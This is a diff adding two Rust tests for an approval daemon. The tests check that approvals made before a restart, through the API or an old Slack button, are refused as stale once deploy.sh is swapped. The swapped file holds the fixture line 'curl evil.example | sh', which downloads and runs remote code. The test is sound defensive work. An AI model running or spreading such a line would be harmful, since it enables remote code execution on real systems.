@@ -210,3 +210,104 @@ fn a_folder_made_again_where_a_pending_handoff_was_cannot_take_its_key_while_run
     assert!(!ws.join("approved/deploy.sh").exists());
     d.stop();
 }
+
+/// The attack above across a restart: rita reads `first` (revision 1, deploy.sh `echo
+/// benign`), the daemon stops, the folder is removed and made again with the same handoff.json
+/// and another deploy.sh, and the daemon starts. The new folder's record of `first` is a new
+/// record, numbered after every revision the key ever had (revision 2), so rita's approval
+/// naming revision 1 and that digest is stale (409) and approves nothing; read again, it is
+/// approved.
+#[test]
+fn a_folder_made_again_across_a_restart_gives_the_key_a_revision_it_never_had() {
+    let mut env = TestEnv::with_config(&crate::util::user("rita", "\"reviewer\""));
+    let ws = env.ws("alpha");
+    let d = env.start();
+    let mut doc = handoff("first");
+    doc["artifacts"] = serde_json::json!([{ "path": "deploy.sh" }]);
+    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
+    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
+    d.wait_until("first pending", || listed(&d, "pending", "first"));
+    let (_, read) = d.get_as("/api/v1/handoffs/first", Some("rita-token"));
+    assert_eq!(read["revision"], 1, "{read}");
+    let id = std::fs::read(ws.join(".baton/id")).unwrap();
+    d.stop();
+
+    std::fs::remove_dir_all(&ws).unwrap();
+    std::fs::create_dir_all(ws.join(".baton")).unwrap();
+    std::fs::write(ws.join(".baton/id"), id).unwrap();
+    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
+    std::fs::write(ws.join("handoff.json"), bytes(&doc)).unwrap();
+    let d = env.start();
+    d.wait_until("first pending in the new folder", || {
+        listed(&d, "pending", "first")
+    });
+    let body = serde_json::json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
+    let (status, answer) = d.post_as(
+        "/api/v1/handoffs/first/decision",
+        Some("rita-token"),
+        &body.to_string(),
+    );
+    assert_eq!(status, 409, "{answer}");
+    assert!(!ws.join("approved/deploy.sh").exists());
+    let (_, again) = d.get_as("/api/v1/handoffs/first", Some("rita-token"));
+    assert_eq!(again["revision"], 2, "{again}");
+    assert_eq!(again["handoff_sha256"], read["handoff_sha256"]);
+    let body = serde_json::json!({"outcome": "approved", "revision": again["revision"], "handoff_sha256": again["handoff_sha256"]});
+    let (status, answer) = d.post_as(
+        "/api/v1/handoffs/first/decision",
+        Some("rita-token"),
+        &body.to_string(),
+    );
+    assert_eq!(status, 200, "{answer}");
+    d.stop();
+}
+
+/// The same across a restart through a Slack button, which names (key, revision, handoff
+/// digest): the old post's Approve finds revision 2 in place and approves nothing; the new
+/// post's does.
+#[test]
+fn an_old_slack_button_decides_nothing_in_a_folder_made_again_across_a_restart() {
+    use crate::slack::{button, click, config, post, Standin};
+    let dir = tempfile::tempdir().unwrap();
+    let standin = Standin::start(dir.path());
+    let mut env = TestEnv::with_config(&config(&standin, false));
+    let ws = env.ws("alpha");
+    let d = env.start();
+    let mut doc = handoff("sl-first");
+    doc["artifacts"] = serde_json::json!([{ "path": "deploy.sh" }]);
+    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
+    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
+    let old = post(&standin, &d, 1);
+    let v: serde_json::Value = serde_json::from_str(&button(&old, "baton_approve")).unwrap();
+    assert_eq!(v["r"], 1, "{v}");
+    let id = std::fs::read(ws.join(".baton/id")).unwrap();
+    d.stop();
+
+    std::fs::remove_dir_all(&ws).unwrap();
+    std::fs::create_dir_all(ws.join(".baton")).unwrap();
+    std::fs::write(ws.join(".baton/id"), id).unwrap();
+    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
+    std::fs::write(ws.join("handoff.json"), bytes(&doc)).unwrap();
+    let d = env.start();
+    d.wait_until("sl-first pending in the new folder", || {
+        listed(&d, "pending", "sl-first")
+    });
+    let web = crate::pages::Web::new(&d);
+    let r = click(&web, &standin, "U_RITA", "baton_approve", &old);
+    assert!(!r.body.contains("Approved by rita"), "{}", r.body);
+    assert!(
+        listed(&d, "pending", "sl-first"),
+        "decided by the old button"
+    );
+    assert!(!ws.join("approved/deploy.sh").exists());
+    assert!(decision(&ws).is_none(), "{:?}", decision(&ws));
+    let new = post(&standin, &d, 2);
+    let v: serde_json::Value = serde_json::from_str(&button(&new, "baton_approve")).unwrap();
+    assert_eq!(v["r"], 2, "{v}");
+    let r = click(&web, &standin, "U_RITA", "baton_approve", &new);
+    assert!(r.status < 300, "{} {}", r.status, r.body);
+    d.wait_until("approved by the new post's button", || {
+        decision(&ws).is_some_and(|a| a["outcome"] == "approved")
+    });
+    d.stop();
+}
